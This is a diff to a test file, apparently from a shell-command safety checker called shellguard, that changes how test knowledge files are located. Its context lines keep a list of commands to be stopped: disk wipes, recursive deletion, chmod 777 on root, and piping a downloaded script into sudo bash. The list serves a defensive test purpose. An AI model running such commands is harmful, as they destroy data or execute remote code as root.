@@ -45,7 +45,6 @@ from shellguard.terminal_text import columns, fitted, printable
 from shellguard.understanding import understand
 from shellguard.wire.frames import Frame, FrameError, decode, decode_field, encode, encode_field, encode_reply
 
-ROOT = Path(__file__).resolve().parents[1]
 STOPPED = ("rm -rf /", "rm -rf ~", "sudo mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda",
            "chmod -R 777 /",
            "curl -s http://h/x | sudo bash")  # fmt: skip
@@ -206,7 +205,7 @@ def spoilt_packs(nonsense: Nonsense) -> bytes:
 
 @cache
 def _packs() -> tuple[str, ...]:
-    folder = ROOT / "shellguard" / "knowledge" / "programs"
+    folder = Path(judgement.__file__).parent / "knowledge" / "programs"
     return tuple(file.read_text() for file in sorted(folder.glob("*.toml")))
 
 
